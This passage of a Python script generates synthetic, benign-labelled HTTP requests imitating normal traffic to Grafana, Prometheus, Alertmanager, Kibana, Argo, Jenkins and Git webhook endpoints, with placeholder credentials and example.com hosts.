    return str(end - hours * 3600 * 1000), str(end)


def ben_grafana(c):
    B = "benign"
    g = H["grafana"]
    # Prometheus panels refreshing through /api/ds/query
    for i, expr in enumerate(PROMQL[:18]):
        frm, to = time_range(RNG.choice([1, 6, 24]))
        c.add("grafana-ds-query-prometheus", B, "POST", "/api/ds/query?ds_type=prometheus&requestId=SQR%d" % (100 + i), g,
              grafana_hdrs("/d/k8s-%s/kubernetes-overview?orgId=1&refresh=30s" % hexs(6),
                           [["X-Dashboard-Uid", "k8s-" + hexs(6)], ["X-Panel-Id", str(RNG.randrange(1, 30))], ["X-Datasource-Uid", "prometheus"],
                            ["X-Plugin-Id", "prometheus"]]),
              js({"queries": [prom_target(expr)], "from": frm, "to": to}), "application/json")
    for i, expr in enumerate(LOGQL):
        frm, to = time_range(1)
        c.add("grafana-ds-query-loki", B, "POST", "/api/ds/query?ds_type=loki&requestId=explore_%s" % alnum(3).lower(), g,
              grafana_hdrs("/explore?orgId=1&left=" + q(js({"datasource": "loki", "queries": [{"refId": "A"}]}))),
              js({"queries": [{"refId": "A", "datasource": {"type": "loki", "uid": "loki"}, "expr": expr, "queryType": "range",
                               "editorMode": "code", "maxLines": 1000, "legendFormat": "", "intervalMs": 2000, "maxDataPoints": 1577}],
                  "from": frm, "to": to}), "application/json")
    for expr in LUCENE:
        frm, to = time_range(24)
        c.add("grafana-ds-query-elasticsearch", B, "POST", "/api/ds/query?ds_type=elasticsearch", g, grafana_hdrs("/explore"),
              js({"queries": [{"refId": "A", "datasource": {"type": "elasticsearch", "uid": "es-logs"}, "query": expr, "alias": "",
                               "metrics": [{"type": "count", "id": "1"}],
                               "bucketAggs": [{"type": "date_histogram", "id": "2", "settings": {"interval": "auto"}, "field": "@timestamp"}],
                               "timeField": "@timestamp", "intervalMs": 60000, "maxDataPoints": 1200}], "from": frm, "to": to}),
              "application/json")
    # dashboard saves written by operators
    for title, exprs in [("Kubernetes / Namespace overview", PROMQL[0:4]), ("Ingress SLO", PROMQL[13:15] + PROMQL[18:19]),
                         ("Platform – Argo CD & Vault", [PROMQL[9], PROMQL[10]]), ("Übersicht Zahlungsverkehr", [PROMQL[1], PROMQL[8]])]:
        panels = [{"id": i + 1, "type": "timeseries", "title": "Panel %d" % (i + 1), "gridPos": {"h": 8, "w": 12, "x": 12 * (i % 2), "y": 8 * (i // 2)},
                   "datasource": {"type": "prometheus", "uid": "prometheus"},
                   "targets": [{"refId": "A", "expr": e, "legendFormat": "__auto", "range": True}],
                   "fieldConfig": {"defaults": {"unit": RNG.choice(["reqps", "percentunit", "bytes", "s"])}, "overrides": []}}
                  for i, e in enumerate(exprs)]
        body = js({"dashboard": {"id": RNG.randrange(10, 400), "uid": alnum(9).lower(), "title": title, "tags": ["platform", "k8s"],
                                 "timezone": "browser", "schemaVersion": 39, "version": RNG.randrange(2, 40), "refresh": "30s",
                                 "templating": {"list": [{"name": "namespace", "type": "query", "query": "label_values(kube_pod_info, namespace)",
                                                          "multi": True, "includeAll": True, "current": {"text": "All", "value": "$__all"}}]},
                                 "panels": panels, "time": {"from": "now-6h", "to": "now"}},
                   "folderUid": "platform", "message": RNG.choice(["Added SLO panel", "Schwellwerte angepasst", ""]), "overwrite": False})
        c.add("grafana-dashboard-save", B, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/abc/edit"), body, "application/json")
    for text in ANNOTATIONS[:6]:
        c.add("grafana-annotation", B, "POST", "/api/annotations", g, grafana_hdrs("/d/k8s-nodes/nodes"),
              js({"dashboardUID": "k8s-nodes", "panelId": RNG.randrange(1, 12), "time": (EPOCH - RNG.randrange(3600)) * 1000,
                  "tags": RNG.choice([["deploy"], ["maintenance", "db"], ["incident"]]), "text": text}), "application/json")
    c.add("grafana-annotation-from-ci", B, "POST", "/api/annotations", g,
          [["Authorization", "Bearer glsa_" + alnum(32) + "_" + hexs(8)]],
          js({"time": EPOCH * 1000, "tags": ["deploy", "jenkins", "payments"], "text": "Jenkins build #1482 deployed payments:2.14.3"}),
          "application/json", ua=UA_TOOLS["curl"])
    for uri in ["/api/search?query=kubernetes&type=dash-db&limit=50", "/api/search?folderUIDs=platform&sort=alpha-asc",
                "/api/search?query=z%C3%A1lohy&starred=false", "/api/dashboards/uid/k8s-nodes", "/api/frontend/settings",
                "/api/user/preferences", "/api/org/users/lookup?query=m%C3%BCller&limit=100", "/api/prometheus/grafana/api/v1/rules",
                "/api/alertmanager/grafana/api/v2/silences", "/api/datasources/uid/prometheus/resources/api/v1/labels?start=1717378400&end=1717400000",
                "/api/datasources/uid/loki/resources/labels?start=1717396400000000000&end=1717400000000000000",
                "/api/plugin-proxy/grafana-oncall-app/api/internal/v1/alertgroups/?perpage=25&started_at=now-30d_now&status=0&status=1",
                "/api/access-control/user/actions?reloadcache=true", "/api/live/list", "/api/health"]:
        c.add("grafana-api-get", B, "GET", uri, g, grafana_hdrs("/dashboards") if uri != "/api/health" else [],
              ua=None if uri != "/api/health" else UA_TOOLS["probe"])
    for uri in ["/d/k8s-nodes/kubernetes-nodes?orgId=1&var-datasource=prometheus&var-cluster=eu-1&var-node=All&from=now-24h&to=now&refresh=1m",
                "/d/pgstats/postgres-overview?orgId=1&var-db=orders&var-db=billing&viewPanel=14",
                "/explore?schemaVersion=1&panes=%7B%22x1%22%3A%7B%22datasource%22%3A%22loki%22%7D%7D&orgId=1",
                "/alerting/list?search=namespace%3Dpayments&view=grouped"]:
        c.add("grafana-page", B, "GET", uri, g, nav("https://%s/dashboards" % g, grafana_cookie()), accept=HTML_ACCEPT, version="HTTP/2")
    c.add("grafana-static-asset", B, "GET", "/public/build/app.%s.js" % hexs(20), g,
          [["Referer", "https://%s/d/k8s-nodes/kubernetes-nodes" % g], ["Accept-Encoding", "gzip, deflate, br"]], accept="*/*")
    c.add("grafana-render-png", B, "GET", "/render/d-solo/k8s-nodes/kubernetes-nodes?orgId=1&panelId=4&width=1000&height=500&tz=Europe%2FBerlin&from=now-6h&to=now",
          g, [["Authorization", "Bearer glsa_" + alnum(32) + "_" + hexs(8)]], ua=UA_TOOLS["slack"], accept="image/png")


def ben_prometheus(c):
    B = "benign"
    p = H["prom"]
    for expr in PROMQL[::2]:
        c.add("prom-query-instant", B, "GET", "/api/v1/query?query=%s&time=%d.%03d" % (q(expr), EPOCH, RNG.randrange(1000)), p,
              xhr(p, "/graph"))
    for expr in PROMQL[1:12:3]:
        frm = EPOCH - 3600 * RNG.choice([1, 3, 12])
        c.add("prom-query-range-post", B, "POST", "/api/v1/query_range", p, [["Authorization", "Basic " + b64("grafana:" + alnum(20))]],
              form([("query", expr), ("start", str(frm)), ("end", str(EPOCH)), ("step", RNG.choice(["15", "30", "60"]))]),
              "application/x-www-form-urlencoded", ua=UA_TOOLS["grafana"])
    for uri in ["/api/v1/series?match[]=" + q('up{job=~"kubernetes-pods|kubernetes-nodes"}') + "&start=1717396400&end=1717400000",
                "/api/v1/labels?match[]=" + q('{__name__=~"http_.*"}'),
                "/api/v1/label/namespace/values", "/api/v1/label/__name__/values?start=1717313600",
                "/api/v1/targets?state=active&scrapePool=serviceMonitor%2Fmonitoring%2Fapi-gateway%2F0",
                "/api/v1/rules?type=alert", "/api/v1/alerts", "/api/v1/status/buildinfo", "/api/v1/metadata?metric=http_server_request_duration_seconds",
                "/federate?match[]=" + q('{job="kubernetes-nodes"}') + "&match[]=" + q('{__name__=~"job:.*"}'),
                "/api/v1/query_exemplars?query=" + q('http_server_request_duration_seconds_bucket{job="api"}') + "&start=1717396400&end=1717400000"]:
        c.add("prom-api-get", B, "GET", uri, p, [], ua=RNG.choice([UA_TOOLS["grafana"], UA_TOOLS["prometheus"], UA_TOOLS["curl"]]))
    for path in ["/-/healthy", "/-/ready"]:
        c.add("prom-health", B, "GET", path, p, [], ua=UA_TOOLS["probe"], accept="*/*")
    for host, path in [(H["spring"], "/actuator/prometheus"), (H["go"], "/metrics"), (H["node"], "/metrics"), (H["argocd"], "/metrics"),
                       (H["vault"], "/v1/sys/metrics?format=prometheus"), (H["envoy"], "/stats/prometheus"), (H["keycloak"], "/metrics"),
                       (H["jenkins"], "/prometheus/")]:
        hdrs = [["Accept-Encoding", "gzip"], ["X-Prometheus-Scrape-Timeout-Seconds", "10"]]
        if "vault" in host:
            hdrs.append(vault_hdr())
        c.add("prom-scrape", B, "GET", path, host, hdrs, ua=UA_TOOLS["prometheus"],
              accept="application/openmetrics-text;version=1.0.0,application/openmetrics-text;version=0.0.1;q=0.75,text/plain;version=0.0.4;q=0.5,*/*;q=0.1")


def ben_alertmanager(c):
    B = "benign"
    am = H["am"]
    for matchers, comment, who in [
        ([("alertname", "KubePodCrashLooping", False), ("namespace", "payments|checkout", True)], "Rolling restart during release 2024.06", "jdoe"),
        ([("cluster", "eu-1", False), ("severity", "warning|info", True)], "Wartung der Nodes – bis 14:00 UTC stumm", "jmueller"),
        ([("alertname", "TargetDown", False), ("job", "blackbox-.*", True)], "Sondes externes en maintenance chez le fournisseur", "zdubois"),
        ([("instance", "10.42.3.17:9100", False)], "Node decommissioned, ticket OPS-2291", "praman"),
        ([("alertname", "VaultSealed", False), ("pod", "vault-[0-2]", True)], "Upgrade a 1.16.2, reinicio controlado", "jalvarez"),
    ]:
        c.add("am-silence-create", B, "POST", "/api/v2/silences", am, xhr(am, "/#/silences/new"),
              js({"matchers": [{"name": n, "value": v, "isRegex": r, "isEqual": True} for n, v, r in matchers],
                  "startsAt": iso(EPOCH, True), "endsAt": iso(EPOCH + 3600 * RNG.choice([1, 2, 4, 8]), True),
                  "createdBy": who, "comment": comment}), "application/json")
    for uri in ["/api/v2/alerts?active=true&silenced=false&inhibited=false&filter=" + q('severity=~"critical|warning"'),
                "/api/v2/alerts/groups?receiver=" + q("ops-slack") + "&filter=" + q('namespace="payments"'),
                "/api/v2/silences?filter=" + q('createdBy="jdoe"'), "/api/v2/status", "/api/v2/receivers"]:
        c.add("am-api-get", B, "GET", uri, am, xhr(am, "/"))
    c.add("am-silence-expire", B, "DELETE", "/api/v2/silence/" + fake_uuid(), am, xhr(am, "/#/silences"))
    for ann, labels in [
        ({"summary": "Pod payments/api-7d9f8 is crash looping", "description": "Pod payments/api-7d9f8 (container api) is restarting 2.5 times / 10 minutes.",
          "runbook_url": "https://runbooks.example.com/kubernetes/kubepodcrashlooping"},
         {"alertname": "KubePodCrashLooping", "namespace": "payments", "pod": "api-7d9f8", "severity": "warning"}),
        ({"summary": "Festplatte auf node-17 fast voll", "description": "Nur noch 7,4 % frei auf /var/lib/containerd."},
         {"alertname": "NodeFilesystemAlmostOutOfSpace", "instance": "node-17", "severity": "critical", "mountpoint": "/var/lib/containerd"}),
        ({"summary": "Taux d'erreurs 5xx élevé sur l'ingress « checkout »", "description": "3,2 % des requêtes échouent depuis 10 minutes."},
         {"alertname": "IngressHighErrorRate", "ingress": "checkout", "severity": "critical"}),
        ({"summary": "証明書の有効期限が近づいています", "description": "api.example.com の証明書は 6 日後に失効します。"},
         {"alertname": "CertificateExpiringSoon", "namespace": "ingress-nginx", "severity": "warning"}),
    ]:
        c.add("am-webhook-delivery", B, "POST", "/alertmanager/webhook", H["notify"], [["X-Alertmanager-Receiver", "ops-webhook"]],
              alert_payload(ann, labels), "application/json", ua=UA_TOOLS["alertmanager"])


def rison_kql(kql):
    return "_a=(columns:!(message,kubernetes.pod.name),query:(language:kuery,query:'%s'))&_g=(time:(from:now-24h,to:now))" % kql.replace("'", "!'")


def ben_kibana(c):
    B = "benign"
    kb = H["kibana"]
    for i, kql in enumerate(KQL):
        host = kb if i % 3 else H["osd"]
        body = js({"batch": [{"request": {"params": {"index": "logs-*", "body": {
            "size": 500, "sort": [{"@timestamp": {"order": "desc", "unmapped_type": "boolean"}}],
            "query": {"bool": {"filter": [{"range": {"@timestamp": {"gte": iso(EPOCH - 86400, True), "lte": iso(EPOCH, True), "format": "strict_date_optional_time"}}}],
                               "must": [{"query_string": {"query": LUCENE[i % len(LUCENE)], "analyze_wildcard": True}}]}},
            "aggs": {"2": {"date_histogram": {"field": "@timestamp", "fixed_interval": "30m", "time_zone": "Europe/Berlin"}}}}},
            "options": {"strategy": "ese", "isStored": False}}}]})
        c.add("kibana-discover-search", B, "POST", "/internal/bsearch?compress=true", host,
              kibana_hdrs("/app/discover#/?" + rison_kql(kql), host=host), body, "application/json")
    for uri in ["/api/saved_objects/_find?type=dashboard&search_fields=title&search=prod*&per_page=20&page=1",
                "/api/saved_objects/_find?type=index-pattern&fields=title&per_page=10000",
                "/api/index_patterns/_fields_for_wildcard?pattern=logs-*&meta_fields=_source&meta_fields=_id&meta_fields=_index",
                "/api/status", "/api/spaces/space", "/internal/security/me", "/api/alerting/rules/_find?page=1&per_page=10&search_fields=name&search=vault"]:
        c.add("kibana-api-get", B, "GET", uri, kb, kibana_hdrs("/app/home"))
    c.add("kibana-console-search", B, "POST", "/api/console/proxy?path=logs-payments-*%2F_search&method=GET", kb, kibana_hdrs("/app/dev_tools#/console"),
          js({"size": 0, "query": {"bool": {"filter": [{"term": {"kubernetes.namespace": "payments"}}, {"range": {"@timestamp": {"gte": "now-1h"}}}]}},
              "aggs": {"by_pod": {"terms": {"field": "kubernetes.pod.name", "size": 20}, "aggs": {"errors": {"filter": {"term": {"log.level": "error"}}}}}}}, True),
          "application/json")
    c.add("kibana-saved-search-create", B, "POST", "/api/saved_objects/search", kb, kibana_hdrs("/app/discover"),
          js({"attributes": {"title": "Fehler im Zahlungsdienst (24 h)", "columns": ["message", "kubernetes.pod.name"],
                             "kibanaSavedObjectMeta": {"searchSourceJSON": js({"query": {"query": KQL[0], "language": "kuery"}, "filter": []})}}}),
          "application/json")
    es = H["es"]
    lines = []
    for i in range(4):
        lines.append(js({"create": {"_index": "logs-k8s-2024.06.03"}}))
        lines.append(js({"@timestamp": iso(EPOCH - i * 7, True), "log": RNG.choice([
            "level=info msg=\"reconciled application\" app=payments duration=412ms",
            "GET /api/v1/orders?page=2 200 38ms",
            "WARN  [o.h.e.j.s.SqlExceptionHelper] SQL Error: 0, SQLState: 08006",
            "Started OrdersApplication in 7.912 seconds (process running for 8.54)",
            "time=\"2024-06-03T07:12:44Z\" level=warning msg=\"retrying webhook delivery\" attempt=2"]),
            "kubernetes": {"namespace_name": RNG.choice(NAMESPACES), "pod_name": "api-" + alnum(10).lower() + "-" + alnum(5).lower(),
                           "container_name": "api", "labels": {"app": "api", "pod-template-hash": alnum(10).lower()}},
            "stream": RNG.choice(["stdout", "stderr"])}))
    c.add("es-bulk-fluentbit", B, "POST", "/_bulk", es, [["Authorization", "Basic " + b64("fluentbit:" + alnum(24))]],
          "\n".join(lines) + "\n", "application/x-ndjson", ua=UA_TOOLS["fluentbit"])
    for uri in ["/_cluster/health?wait_for_status=yellow&timeout=50s", "/_cat/indices?v&s=store.size:desc&h=index,docs.count,store.size",
                "/_nodes/stats/jvm,fs?filter_path=nodes.*.jvm.mem.heap_used_percent"]:
        c.add("es-api-get", B, "GET", uri, es, [["Authorization", "ApiKey " + b64(alnum(20) + ":" + alnum(22))]], ua=UA_TOOLS["curl"])
    c.add("es-count-lucene", B, "POST", "/logs-*/_count", es, [["Authorization", "ApiKey " + b64(alnum(20) + ":" + alnum(22))]],
          js({"query": {"query_string": {"query": LUCENE[0], "default_field": "message"}}}), "application/json", ua=UA_TOOLS["python"])


def app_spec(name, ns, repo, path, helm_params=None, images=None):
    src = {"repoURL": repo, "path": path, "targetRevision": RNG.choice(["main", "HEAD", "v2.14.3"])}
    if helm_params:
        src["helm"] = {"releaseName": name, "parameters": [{"name": k, "value": v} for k, v in helm_params], "valueFiles": ["values-prod.yaml"]}
    if images:
        src["kustomize"] = {"images": images}
    return {"metadata": {"name": name, "namespace": "argocd", "labels": {"team": ns}},
            "spec": {"project": "platform", "source": src, "destination": {"server": "https://kubernetes.default.svc", "namespace": ns},
                     "syncPolicy": {"automated": {"prune": True, "selfHeal": True}, "syncOptions": ["CreateNamespace=true", "ServerSideApply=true"]}}}


def ben_argo(c):
    B = "benign"
    ac = H["argocd"]
    for uri in ["/api/v1/applications?projects=platform&selector=team%3Dpayments", "/api/v1/applications/payments?refresh=normal&appNamespace=argocd",
                "/api/v1/applications/payments/resource-tree?appNamespace=argocd", "/api/v1/applications/payments/managed-resources?appNamespace=argocd",
                "/api/v1/applications/payments/events?resourceNamespace=payments&resourceName=api-7d9f8&resourceUID=" + fake_uuid(),
                "/api/v1/stream/applications?name=payments&resourceVersion=%d" % RNG.randrange(10 ** 7, 10 ** 8),
                "/api/v1/session/userinfo", "/api/v1/settings", "/api/version",
                "/api/v1/applications/checkout/revisions/%s/metadata?appNamespace=argocd" % hexs(40)]:
        c.add("argocd-api-get", B, "GET", uri, ac, xhr(ac, "/applications", argocd_cookie()))
    for app in ["payments", "checkout", "keycloak"]:
        c.add("argocd-sync", B, "POST", "/api/v1/applications/%s/sync" % app, ac, xhr(ac, "/applications/argocd/" + app, argocd_cookie()),
              js({"appNamespace": "argocd", "revision": RNG.choice(["HEAD", "main", hexs(40)]), "prune": RNG.choice([True, False]), "dryRun": False,
                  "strategy": {"hook": {"force": False}}, "resources": None, "syncOptions": {"items": ["CreateNamespace=true"]}}),
              "application/json")
    c.add("argocd-rollback", B, "PUT", "/api/v1/applications/checkout/rollback", ac, xhr(ac, "/applications/argocd/checkout", argocd_cookie()),
          js({"appNamespace": "argocd", "id": 41, "prune": False, "dryRun": False}), "application/json")
    c.add("argocd-login", B, "POST", "/api/v1/session", ac, xhr(ac, "/login?return_url=https%3A%2F%2Fargocd.platform.example.com%2Fapplications"),
          js({"username": "admin", "password": "Wv7-" + alnum(12)}), "application/json")
    c.add("argocd-app-create-helm", B, "POST", "/api/v1/applications?upsert=false&validate=true", ac, [["Authorization", "Bearer " + jwt({"sub": "ci", "iss": "argocd"}, "HS256")]],
          js(app_spec("search", "search", "https://gitlab.example.com/platform/charts.git", "charts/opensearch",
                      helm_params=[("replicas", "3"), ("image.tag", "2.13.0"), ("persistence.size", "200Gi"), ("ingress.hosts[0]", "search.example.com")])),
          "application/json", ua=UA_TOOLS["argocd"])
    c.add("argocd-app-create-kustomize", B, "POST", "/api/v1/applications?upsert=true", ac, xhr(ac, "/applications", argocd_cookie()),
          js(app_spec("ledger", "payments", "https://github.example.com/finance/ledger.git", "deploy/overlays/prod",
                      images=["registry.example.com/finance/ledger:1.8.0", "registry.example.com/finance/ledger-migrate:1.8.0"])), "application/json")
    aw = H["argowf"]
    for uri in ["/api/v1/workflows/argo?listOptions.labelSelector=" + q("workflows.argoproj.io/phase in (Running,Pending)") + "&listOptions.limit=50&fields=-items.status.nodes",
                "/api/v1/workflows/argo/nightly-etl-x7k2q?fields=status.phase,status.progress,status.nodes",
                "/api/v1/workflows/argo/nightly-etl-x7k2q/log?logOptions.container=main&logOptions.follow=true&podName=nightly-etl-x7k2q-3141592653",
                "/api/v1/archived-workflows?listOptions.fieldSelector=" + q("metadata.namespace=argo,spec.startedAt>2024-05-27T00:00:00Z") + "&listOptions.limit=20",
                "/api/v1/cron-workflows/argo", "/api/v1/workflow-templates/argo?listOptions.labelSelector=team%3Ddata",
                "/api/v1/workflow-events/argo?listOptions.fieldSelector=metadata.name%3Dnightly-etl-x7k2q&fields=result.object.status.phase"]:
        c.add("argowf-api-get", B, "GET", uri, aw, xhr(aw, "/workflows/argo"))
    for params in [["date=2024-06-02", "region=eu-west-1", "dry-run=false"], ["branch=feature/ledger-export", "image=registry.example.com/finance/ledger", "tag=1.8.0-rc.2"],
                   ["dataset=clickstream", "partitions=24", "notify=data-team@example.com"]]:
        c.add("argowf-submit", B, "POST", "/api/v1/workflows/argo/submit", aw, xhr(aw, "/workflow-templates/argo"),
              wf_submit(params, RNG.choice(["nightly-etl", "build-and-push", "backfill"])), "application/json")
    for action in ["retry", "resubmit", "stop"]:
        c.add("argowf-action", B, "PUT", "/api/v1/workflows/argo/nightly-etl-x7k2q/" + action, aw, xhr(aw, "/workflows/argo/nightly-etl-x7k2q"),
              js({"namespace": "argo", "name": "nightly-etl-x7k2q", "restartSuccessful": False, "nodeFieldSelector": ""} if action == "retry"
                 else {"namespace": "argo", "name": "nightly-etl-x7k2q", "memoized": False} if action == "resubmit"
                 else {"namespace": "argo", "name": "nightly-etl-x7k2q", "message": "Gestoppt wegen falscher Region"}), "application/json")


def jenkins_api(extra=()):
    return [["Authorization", "Basic " + b64("ci-bot:11" + hexs(32))]] + list(extra)


def ben_jenkins(c):
    B = "benign"
    jk = H["jenkins"]
    for job, params in [("deploy-api", [("BRANCH", "main"), ("DEPLOY_ENV", "staging"), ("VERSION", "2.14.3"), ("DRY_RUN", "false")]),
                        ("platform/build-images", [("GIT_REF", "refs/tags/v1.8.0"), ("PLATFORMS", "linux/amd64,linux/arm64"), ("PUSH", "true")]),
                        ("nightly-backup", [("TARGET", "s3://backups-example/pg/"), ("RETENTION_DAYS", "30")]),
                        ("release-notes", [("FROM_TAG", "v2.13.0"), ("TO_TAG", "v2.14.0"), ("TITLE", "Version 2.14 – Neue Exportfunktion & Fehlerbehebungen")])]:
        path = "/job/" + "/job/".join(job.split("/")) + "/buildWithParameters"
        if RNG.random() < 0.5:
            c.add("jenkins-build-with-parameters", B, "POST", path + "?" + form(params) + "&delay=0sec", jk, jenkins_api(), ua=UA_TOOLS["curl"])
        else:
            c.add("jenkins-build-with-parameters", B, "POST", path, jk, jenkins_hdrs("/job/%s/build?delay=0sec" % job),
                  form(params + [("Jenkins-Crumb", hexs(64))]), "application/x-www-form-urlencoded")
    for uri in ["/job/deploy-api/api/json?tree=builds[number,status,timestamp,id,result,duration]{0,10}",
                "/job/deploy-api/lastBuild/api/json?tree=result,timestamp,duration,building,changeSets[items[msg,author[fullName]]]",
                "/job/deploy-api/1482/logText/progressiveText?start=10240",
                "/crumbIssuer/api/json", "/computer/api/json?depth=1&tree=computer[displayName,offline,idle,numExecutors]",
                "/queue/item/88213/api/json", "/api/json?tree=jobs[name,color,url]",
                "/blue/rest/organizations/jenkins/pipelines/platform/pipelines/api/branches/main/runs/?start=0&limit=26",
                "/job/deploy-api/lastSuccessfulBuild/artifact/build/reports/tests/test/index.html",
                "/manage/pluginManager/api/json?depth=1&tree=plugins[shortName,version,hasUpdate]"]:
        c.add("jenkins-api-get", B, "GET", uri, jk, jenkins_api() if "blue" not in uri else jenkins_hdrs("/blue/organizations/jenkins"),
              ua=UA_TOOLS["curl"] if "blue" not in uri else None)
    c.add("jenkins-stop-build", B, "POST", "/job/deploy-api/1483/stop", jk, jenkins_hdrs("/job/deploy-api/1483/"), "", "application/x-www-form-urlencoded")
    c.add("jenkins-input-proceed", B, "POST", "/job/deploy-api/1483/input/Deploy/proceed", jk, jenkins_hdrs("/job/deploy-api/1483/input/"),
          form([("json", js({"parameter": [{"name": "APPROVER_COMMENT", "value": "Freigabe nach Review durch Team Zahlungen"}]})), ("proceed", "Deploy")]),
          "application/x-www-form-urlencoded")
    c.add("jenkins-notify-commit", B, "GET", "/git/notifyCommit?url=" + q("https://gitlab.example.com/platform/api.git") + "&branches=main&sha1=" + hexs(40),
          jk, [], ua=UA_TOOLS["gitlab"])


def gh_push(repo, msgs):
    sha = hexs(40)
    author = RNG.choice(PEOPLE)
    return {"ref": "refs/heads/main", "before": hexs(40), "after": sha, "created": False, "deleted": False, "forced": False,
            "compare": "https://github.example.com/%s/compare/%s...%s" % (repo, hexs(12), sha[:12]),
            "commits": [{"id": hexs(40), "tree_id": hexs(40), "distinct": True, "message": m, "timestamp": iso(ts()).replace("Z", "+02:00"),
                         "url": "https://github.example.com/%s/commit/%s" % (repo, hexs(40)),
                         "author": {"name": "%s %s" % (author[0], author[1]), "email": "%s@example.com" % author[2], "username": author[2]},
                         "added": [], "removed": [], "modified": RNG.sample(["README.md", "deploy/values-prod.yaml", "internal/api/handler.go",
                                                                             "charts/api/Chart.yaml", "src/main/java/com/example/Orders.java"], 2)}
                        for m in msgs],
            "repository": {"id": RNG.randrange(10 ** 6, 10 ** 8), "name": repo.split("/")[1], "full_name": repo, "private": True,
                           "html_url": "https://github.example.com/" + repo, "default_branch": "main"},
            "pusher": {"name": author[2], "email": "%s@example.com" % author[2]}, "sender": {"login": author[2], "id": RNG.randrange(10 ** 5, 10 ** 7), "type": "User"}}


def gl_push(project, msgs):
    author = RNG.choice(PEOPLE)
    return {"object_kind": "push", "event_name": "push", "before": hexs(40), "after": hexs(40), "ref": "refs/heads/main", "checkout_sha": hexs(40),
            "user_name": "%s %s" % (author[0], author[1]), "user_username": author[2], "user_email": "", "project_id": RNG.randrange(10, 900),
            "project": {"name": project.split("/")[1], "path_with_namespace": project, "default_branch": "main",
                        "git_http_url": "https://gitlab.example.com/%s.git" % project, "web_url": "https://gitlab.example.com/" + project},
            "commits": [{"id": hexs(40), "message": m + "\n", "title": m.split("\n")[0], "timestamp": iso(ts()).replace("Z", "+00:00"),
                         "url": "https://gitlab.example.com/%s/-/commit/%s" % (project, hexs(40)),
                         "author": {"name": "%s %s" % (author[0], author[1]), "email": "[REDACTED]"}, "added": [], "modified": ["values.yaml"], "removed": []}
                        for m in msgs], "total_commits_count": len(msgs)}


def ben_git(c):
    B = "benign"
    cm = list(COMMITS)
    RNG.shuffle(cm)
    for i in range(5):
        body = js(gh_push(RNG.choice(["platform/api", "finance/ledger", "data/etl"]), cm[i * 2:i * 2 + 2]))
        target = [(H["jenkins"], "/github-webhook/"), (H["argocd"], "/api/webhook"), ("ci-relay.platform.example.com", "/hooks/github")][i % 3]
        c.add("github-push-webhook", B, "POST", target[1], target[0],
              [["X-GitHub-Event", "push"], ["X-GitHub-Delivery", fake_uuid()], ["X-GitHub-Hook-ID", str(RNG.randrange(10 ** 8, 10 ** 9))],
               ["X-Hub-Signature-256", "sha256=" + hexs(64)], ["X-GitHub-Hook-Installation-Target-Type", "repository"]],
              body, "application/json", ua=UA_TOOLS["github"], accept="*/*")
    for i in range(4):
        c.add("gitlab-push-hook", B, "POST", RNG.choice(["/project/platform/api", "/api/webhook", "/hooks/gitlab"]),
              RNG.choice([H["jenkins"], H["argocd"], "ci-relay.platform.example.com"]),
              [["X-Gitlab-Event", "Push Hook"], ["X-Gitlab-Token", alnum(24)], ["X-Gitlab-Instance", "https://gitlab.example.com"],
               ["X-Gitlab-Webhook-UUID", fake_uuid()], ["X-Gitlab-Event-UUID", fake_uuid()]],
              js(gl_push("platform/" + RNG.choice(["api", "charts", "infra"]), cm[10 + i * 2:12 + i * 2])), "application/json", ua=UA_TOOLS["gitlab"], accept="*/*")
    author = RNG.choice(PEOPLE)
    c.add("gitlab-mr-hook", B, "POST", "/project/platform/api", H["jenkins"],
          [["X-Gitlab-Event", "Merge Request Hook"], ["X-Gitlab-Token", alnum(24)], ["X-Gitlab-Instance", "https://gitlab.example.com"]],
          js({"object_kind": "merge_request", "event_type": "merge_request", "user": {"name": "%s %s" % author[:2], "username": author[2]},
              "project": {"path_with_namespace": "platform/api"},
              "object_attributes": {"iid": 412, "title": "Ajoute la limite de débit par locataire", "state": "opened", "action": "open",
                                    "source_branch": "feature/rate-limit", "target_branch": "main", "draft": False,
                                    "description": "## Contexte\nLes locataires bruyants saturent l'API.\n\n## Changements\n- limite par défaut : 200 req/s\n- configurable via `values.yaml`\n\nCloses #398",
                                    "url": "https://gitlab.example.com/platform/api/-/merge_requests/412", "last_commit": {"id": hexs(40), "message": cm[0]}},
              "labels": [{"title": "backend"}, {"title": "needs-review"}]}), "application/json", ua=UA_TOOLS["gitlab"], accept="*/*")
    c.add("gitlab-pipeline-hook", B, "POST", "/hooks/gitlab", "ci-relay.platform.example.com",
          [["X-Gitlab-Event", "Pipeline Hook"], ["X-Gitlab-Token", alnum(24)]],
          js({"object_kind": "pipeline", "object_attributes": {"id": 99812, "ref": "main", "tag": False, "sha": hexs(40), "status": "failed",
                                                              "stages": ["build", "test", "deploy"], "duration": 612, "created_at": iso(EPOCH - 900).replace("T", " ").replace("Z", " UTC")},
              "builds": [{"id": 551203, "stage": "test", "name": "unit", "status": "failed", "failure_reason": "script_failure"}],
              "project": {"path_with_namespace": "platform/api"}}), "application/json", ua=UA_TOOLS["gitlab"], accept="*/*")
    c.add("gitea-push-hook", B, "POST", "/api/webhook", H["argocd"],
          [["X-Gitea-Event", "push"], ["X-Gitea-Delivery", fake_uuid()], ["X-Gitea-Signature", hexs(64)], ["X-Gogs-Event", "push"]],
          js({"ref": "refs/heads/main", "before": hexs(40), "after": hexs(40), "compare_url": "https://git.example.org/platform/infra/compare/a...b",
              "commits": [{"id": hexs(40), "message": "Aktualisiere Ingress-Hosts für Staging\n", "url": "https://git.example.org/platform/infra/commit/" + hexs(40),
                           "author": {"name": "Anna-Lena Schröder", "email": "aschroeder@example.org", "username": "aschroeder"}}],
              "repository": {"full_name": "platform/infra", "clone_url": "https://git.example.org/platform/infra.git"}}),
          "application/json", ua=UA_TOOLS["gitea"], accept="*/*")
    gl = H["gitlab"]
    tok = [["PRIVATE-TOKEN", "glpat-" + alnum(20)]]
    c.add("gitlab-trigger-pipeline", B, "POST", "/api/v4/projects/42/trigger/pipeline", gl, [],
          form([("token", "glptt-" + hexs(40)), ("ref", "main"), ("variables[DEPLOY_ENV]", "staging"), ("variables[CHANGE_ID]", "CHG-20240603-017")]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["curl"])
    c.add("gitlab-create-issue", B, "POST", "/api/v4/projects/42/issues", gl, tok,
          js({"title": "Grafana: Legende im Panel „Fehlerquote“ abgeschnitten", "labels": "bug,observability",
              "description": "Seit dem Update auf 10.4 wird die Legende ab 40 Zeichen abgeschnitten.\n\n**Erwartet:** vollständiger Name\n**Tatsächlich:** `payments-api-7d9f…`\n\nScreenshot im Anhang."}),
          "application/json", ua=UA_TOOLS["python"])
